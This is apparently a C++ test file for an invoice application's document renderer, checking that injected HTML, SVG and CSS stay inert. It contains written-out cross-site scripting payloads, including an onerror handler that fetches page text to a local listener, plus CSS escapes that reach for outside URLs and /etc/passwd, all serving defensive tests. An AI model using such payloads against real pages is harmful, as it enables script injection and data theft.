#include "RenderTestSupport.h"
#include "support/SilentListener.h"

#include "render/CssGuard.h"
#include "render/DocumentPaginator.h"
#include "render/InvoiceDocument.h"
#include "render/PDFRenderer.h"
#include "render/ReminderDocument.h"

#include <QEventLoop>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTimer>
#include <QWebEnginePage>
#include <QWebEngineScript>

#include <gtest/gtest.h>

using namespace RenderTest;
using namespace Qt::Literals::StringLiterals;

namespace {

// What a page looks like after it has loaded and had time to run whatever it would run: read
// from the program's own script world, which the page cannot touch.
QJsonObject inspect(QWebEnginePage& page, const QString& html)
{
    QEventLoop loop;
    QObject::connect(&page, &QWebEnginePage::loadFinished, &loop, [&] {
        // Handlers of failed images and timers get their chance first.
        QTimer::singleShot(700, &loop, &QEventLoop::quit);
    });
    QTimer::singleShot(20000, &loop, &QEventLoop::quit);
    page.setHtml(html, QUrl(u"qrc:/render/"_s));
    loop.exec();
    QJsonObject found;
    QEventLoop answer;
    page.runJavaScript(uR"JS(JSON.stringify({
        title: document.title,
        text: document.body ? document.body.innerText : '',
        injected: document.querySelectorAll('[data-injected], script, iframe, object, embed, svg:not(.girocode-symbol)').length,
        handlers: Array.from(document.querySelectorAll('*')).filter(function(e) {
            return Array.from(e.attributes).some(function(a) { return a.name.indexOf('on') === 0; });
        }).length,
        bold: document.querySelectorAll('main b').length
    }))JS"_s,
                       QWebEngineScript::ApplicationWorld, [&](const QVariant& result) {
                           found = QJsonDocument::fromJson(result.toString().toUtf8()).object();
                           answer.quit();
                       });
    QTimer::singleShot(10000, &answer, &QEventLoop::quit);
    answer.exec();
    return found;
}

// Markup an attacker puts into every text field: a tag that would run script when its image
// fails, one that would fetch from the listener, and a plain bold tag that must stay text.
QString payload(int port)
{
    return u"<b>x</b><img data-injected src=\"http://127.0.0.1:%1/i.png\" "
           u"onerror=\"document.title='ran';fetch('http://127.0.0.1:%1/'+document.body.innerText)\">"
           u"</td></tr></table><script data-injected>document.title='ran'</script>"_s.arg(port);
}

} // namespace

TEST(HostileDocument, StoredMarkupStaysTextAndRunsNothing)
{
    SilentListener listener;
    ASSERT_TRUE(listener.listening());
    const QString evil = payload(listener.port());
    // As if a sync engine had brought in an edited record: hostile values in every kind of field.
    Invoice invoice = sampleInvoice();
    invoice.currency = Currency{evil};
    invoice.name = evil;
    invoice.addressCountry = Country{u"<i data-injected>X"_s};
    invoice.reference = evil;
    invoice.note = evil + u"\n**bold** "_s + evil;
    invoice.marginalNote = evil;
    invoice.senderAdditionalNumbers = evil + u": "_s + evil;
    invoice.items[0].item = evil;
    Profile profile = sampleProfile();
    profile.name = evil;
    profile.additional = evil;
    profile.iban = evil;

    const auto document = std::make_shared<InvoiceDocument>(invoice, profile, a4Styling());
    const QString html = document->render(PageKind::single, std::nullopt);
    EXPECT_FALSE(html.contains(u"<img data-injected"_s));
    EXPECT_FALSE(html.contains(u"<script data-injected"_s));

    QWebEnginePage page;
    lockDocumentPage(&page);
    const QJsonObject seen = inspect(page, html);
    ASSERT_FALSE(seen.isEmpty());
    EXPECT_EQ(seen[u"injected"_s].toInt(), 0);
    EXPECT_EQ(seen[u"handlers"_s].toInt(), 0);
    EXPECT_EQ(seen[u"bold"_s].toInt(), 0) << "a tag in the data is text, not bold";
    EXPECT_NE(seen[u"title"_s].toString(), u"ran"_s);
    EXPECT_TRUE(seen[u"text"_s].toString().contains(u"<b>x</b>"_s));

    const auto pdf = PDFRenderer::renderNow(document);
    ASSERT_TRUE(pdf);
    const QString text = pdfText(*pdf);
    EXPECT_TRUE(text.contains(u"<b>x</b>"_s)) << text.toStdString();

    // The reminder letter is built the same way.
    Reminder reminder;
    reminder.text = evil + u"\n{{amount}}"_s;
    const ReminderDocument letter(reminder, invoice, profile, a4Styling());
    const QJsonObject letterSeen = inspect(page, letter.render(PageKind::single, std::nullopt));
    EXPECT_EQ(letterSeen[u"injected"_s].toInt(), 0);
    EXPECT_EQ(letterSeen[u"handlers"_s].toInt(), 0);
    EXPECT_FALSE(listener.wasCalled());
}

TEST(HostileDocument, MarkupThatSlipsThroughStillRunsNoScriptAndFetchesNothing)
{
    // Should a value ever reach the page unescaped, the page itself forbids script and
    // outside loads, and the program's pages do not run page script at all.
    SilentListener listener;
    QString html =
        InvoiceDocument(sampleInvoice(), sampleProfile(), a4Styling()).render(PageKind::single, std::nullopt);
    const QString raw = u"<img src=\"http://127.0.0.1:%1/a.png\" onerror=\"document.title='ran'\">"
                        u"<img src=x onerror=\"document.title='ran'\"><script>document.title='ran'</script>"
                        u"<link rel=stylesheet href=\"http://127.0.0.1:%1/b.css\">"
                        u"<iframe src=\"http://127.0.0.1:%1/c\"></iframe>"_s.arg(listener.port());
    html.replace(u"<main class=\"content\">"_s, u"<main class=\"content\">"_s + raw);

    QWebEnginePage locked;
    lockDocumentPage(&locked);
    EXPECT_NE(inspect(locked, html)[u"title"_s].toString(), u"ran"_s);
    QWebEnginePage ordinary; // script on: the page's own policy still says no
    EXPECT_NE(inspect(ordinary, html)[u"title"_s].toString(), u"ran"_s);
    EXPECT_FALSE(listener.wasCalled());
}

TEST(HostileDocument, AnSvgLogoIsAnImageAndItsScriptsDoNotRun)
{
    SilentListener listener;
    QTemporaryDir dir;
    const QString logo = dir.filePath(u"logo.svg"_s);
    QFile file(logo);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write((u"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 120 40\" "
                u"onload=\"parent.document.title='ran'\"><script>top.document.title='ran'</script>"
                u"<image href=\"http://127.0.0.1:%1/l.png\" width=\"9\" height=\"9\"/>"
                u"<circle cx=\"20\" cy=\"20\" r=\"16\"/></svg>"_s)
                   .arg(listener.port())
                   .toUtf8());
    file.close();
    Styling styling = a4Styling();
    styling.logo = logo;
    const InvoiceDocument document(sampleInvoice(), sampleProfile(), styling);
    const QString html = document.render(PageKind::single, std::nullopt);
    EXPECT_TRUE(html.contains(u"<div class=\"logo\"><img src=\"data:image/svg+xml;base64,"_s));

    QWebEnginePage page;
    const QJsonObject seen = inspect(page, html);
    EXPECT_NE(seen[u"title"_s].toString(), u"ran"_s);
    EXPECT_EQ(seen[u"injected"_s].toInt(), 0) << "no svg or script element in the page";
    EXPECT_FALSE(listener.wasCalled());
}

TEST(HostileDocument, StyleSheetsCannotLeaveTheirElementNorFetch)
{
    // Ending the element, in any spelling.
    for (const QString& css : {u"</style><script>x</script>"_s, u"</STYLE ><b>"_s,
                               u"a { content: '</style>' }"_s, u"/* </style> */"_s})
        EXPECT_FALSE(CssGuard::userStyleSheet(css).contains(u'<')) << css.toStdString();

    // Imports and outside URLs, plainly and with escapes, go; data URLs and the rest stay.
    const QString cleaned = CssGuard::userStyleSheet(
        u"@import url(http://e/a.css);\n@IMPORT 'http://e/b.css' screen;\n@\\69mport \"http://e/c.css\";\n"
        u"@\\000069 mport url(http://e/d.css);\n@import /* ; { */ 'http://e/g.css' screen;\n"
        u"body { background: url( 'http://e/x.png' ) no-repeat; color: #123456 }\n"
        u"h1 { background-image: u\\72l(//e/y.png), image-set('http://e/z.png' 1x); }\n"
        u"@font-face { font-family: X; src: url(file:///etc/passwd), src('http://e/f.woff'); }\n"
        u".ok { background: url(\"data:image/png;base64,AAAA\"); }\n"_s);
    EXPECT_FALSE(cleaned.contains(u"http"_s)) << cleaned.toStdString();
    EXPECT_FALSE(cleaned.contains(u"//e/"_s)) << cleaned.toStdString();
    EXPECT_FALSE(cleaned.contains(u"file:"_s)) << cleaned.toStdString();
    EXPECT_TRUE(cleaned.contains(u"color: #123456"_s));
    EXPECT_TRUE(cleaned.contains(u"url(\"data:image/png;base64,AAAA\")"_s));
    EXPECT_TRUE(cleaned.contains(u"no-repeat"_s)) << "the rest of a declaration is kept";

    // A font name from a styling file stays inside its CSS string.
    EXPECT_EQ(CssGuard::stringContent(u"Source Serif"_s), u"Source Serif"_s);
    EXPECT_FALSE(CssGuard::stringContent(u"x'; } body { background: url(http://e) } '"_s).contains(u'\''));
}

TEST(HostileDocument, ACustomStyleSheetStillStylesThePage)
{
    Styling styling = a4Styling();
    styling.css = u".content { color: rgb(1, 2, 3); }"_s;
    QWebEnginePage page;
    lockDocumentPage(&page);
    const QString html =
        InvoiceDocument(sampleInvoice(), sampleProfile(), styling).render(PageKind::single, std::nullopt);
    QEventLoop loop;
    QObject::connect(&page, &QWebEnginePage::loadFinished, &loop, &QEventLoop::quit);
    page.setHtml(html, QUrl(u"qrc:/render/"_s));
    loop.exec();
    QString colour;
    page.runJavaScript(u"getComputedStyle(document.querySelector('main.content')).color"_s,
                       QWebEngineScript::ApplicationWorld, [&](const QVariant& v) {
                           colour = v.toString();
                           loop.quit();
                       });
    loop.exec();
    EXPECT_EQ(colour, u"rgb(1, 2, 3)"_s);
}
